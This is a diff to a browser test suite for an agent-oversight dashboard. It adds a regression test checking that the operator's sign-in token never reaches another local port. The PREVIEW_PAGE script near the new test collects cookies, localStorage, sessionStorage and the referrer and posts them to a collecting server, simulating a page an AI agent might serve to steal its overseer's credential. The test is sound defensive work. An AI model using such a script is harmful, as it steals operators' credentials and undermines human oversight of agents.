@@ -138,8 +138,8 @@ def test_the_dashboard_shows_the_team_live_and_stops_an_agent(browser: t.Any, fa
     names = {lead, child, sleeper}
     served = start_server(fast_project)
     try:
-        browser.get(f"{served.base}/?token={served.token}")
-        assert browser.current_url == served.base + "/", "the token leaves the address bar"
+        browser.get(served.sign_in)
+        assert "token" not in browser.current_url, "the token leaves the address bar"
         page_wait(browser, "window.ovPage && window.ovPage.ready", what="the page to load")
         wait_for(lambda: tree_names(browser) >= names, what=f"every agent in the tree: {names}")
         nested = browser.execute_script(
@@ -205,7 +205,7 @@ def test_approving_a_pending_gate_from_its_button_unparks_the_agent(browser: t.A
     wait_for(lambda: row(state_db, name).state == "parked", timeout=60, what="the agent to park on its gate")
     served: Served = start_server(fast_project)
     try:
-        browser.get(f"{served.base}/?token={served.token}")
+        browser.get(served.sign_in)
         page_wait(browser, "document.querySelector('#waiting-list button[data-approve]')", what="the approve button")
         click(browser, "#waiting-list button[data-approve]")
         wait_for(lambda: row(state_db, name).state != "parked", timeout=60, what="the agent to leave parked")
@@ -213,3 +213,123 @@ def test_approving_a_pending_gate_from_its_button_unparks_the_agent(browser: t.A
                                                                                                   "operator")
     finally:
         served.stop()
+
+
+# ---- another program on another local port -----------------------------------------------------
+
+PREVIEW_PAGE = b"""<!doctype html><html><head><meta charset="utf-8"><title>preview</title></head><body>
+<p>an agent's "preview"</p>
+<script>
+  const seen = {cookie: document.cookie, local: JSON.stringify({...localStorage}),
+                session: JSON.stringify({...sessionStorage}), href: location.href, referrer: document.referrer};
+  fetch("/report", {method: "POST", body: JSON.stringify(seen)}).then(() => { document.title = "reported"; });
+</script></body></html>
+"""
+
+
+class Preview:
+    """What an agent could run on another loopback port (`python3 -m http.server`), recording every request."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.requests: list[dict[str, t.Any]] = []
+        recorded = self.requests
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def _record(self) -> None:
+                length = int(self.headers.get("content-length") or 0)
+                recorded.append({"method": self.command, "path": self.path, "headers": dict(self.headers.items()),
+                                 "body": self.rfile.read(length).decode("utf-8", "replace") if length else ""})
+
+            def do_GET(self) -> None:
+                self._record()
+                body = PREVIEW_PAGE if not self.path.startswith("/favicon") else b""
+                self.send_response(200 if body else 404)
+                self.send_header("content-type", "text/html")
+                self.send_header("content-length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def do_POST(self) -> None:
+                self._record()
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args: t.Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def reports(self) -> list[dict[str, t.Any]]:
+        import json
+
+        return [json.loads(r["body"]) for r in self.requests if r["path"] == "/report"]
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_another_local_port_never_receives_anything_that_signs_in(browser: t.Any, project: ProjectPaths,
+                                                                  tmp_path: Path) -> None:
+    """Issue 28, item 3: cookies are not separated by port, so no credential may live in one."""
+    from overstory.store import events as event_store
+    from overstory.store.db import open_events
+
+    preview = Preview()
+    served = start_server(project)
+    events = open_events(project.events_db)
+    try:
+        browser.get(served.sign_in)
+        page_wait(browser, "window.ovPage && window.ovPage.ready", what="the page to load")
+        page_wait(browser, "document.getElementById('live').classList.contains('on')", what="the live stream")
+        assert served.token not in browser.current_url, "the token leaves the address bar"
+        assert browser.execute_script("return document.cookie") == ""
+        assert browser.get_cookies() == [], "the dashboard sets no cookie at all"
+
+        def shows_live(marker: str) -> None:
+            event_store.record(events, "assistant_text", agent="nobody", summary=marker)
+            page_wait(browser, f"document.getElementById('feed').textContent.includes('{marker}')",
+                      what=f"{marker} in the live feed")
+
+        shows_live("marker-first")
+        # An error on the stream (a dropped connection): the page reconnects with a fresh single-use ticket.
+        browser.execute_script("window.ovPage.source.dispatchEvent(new Event('error'))")
+        page_wait(browser, "window.ovPage.source && window.ovPage.source.readyState === 1",
+                  what="the stream to reconnect")
+        shows_live("marker-after-reconnect")
+
+        # The operator follows a link the agent printed, opens it in a new tab, and types it in the address bar.
+        browser.execute_script(f"window.open('{preview.base}/new-tab', '_blank')")
+        browser.execute_script(f"location.href = '{preview.base}/followed-link'")
+        wait_for(lambda: len(preview.reports()) >= 2, what="both preview pages to report")
+        browser.switch_to.window(browser.window_handles[0])
+        browser.get(f"{preview.base}/typed")
+        wait_for(lambda: len(preview.reports()) >= 3, what="the typed address to report")
+
+        # Back on the dashboard in the same tab: still signed in (the tab's sessionStorage), still live.
+        browser.get(served.base + "/")
+        page_wait(browser, "window.ovPage && window.ovPage.ready", what="the page to load again")
+        page_wait(browser, "document.getElementById('live').classList.contains('on')", what="the live stream again")
+        shows_live("marker-after-return")
+
+        seen_paths = [r["path"] for r in preview.requests]
+        assert {"/new-tab", "/followed-link", "/typed"} <= set(seen_paths), seen_paths
+        for request in preview.requests:
+            assert "cookie" not in {k.lower() for k in request["headers"]}, request
+            flat = " ".join([request["path"], request["body"], *request["headers"].values()])
+            assert served.token not in flat, request
+            assert served.base not in request["headers"].get("Referer", ""), request
+        for report in preview.reports():
+            assert report["cookie"] == "" and served.token not in str(report), report
+        # The preview's own page cannot use the API either (no credential comes with its requests).
+        assert browser.get_cookies() == []
+    finally:
+        events.close()
+        served.stop()
+        preview.close()
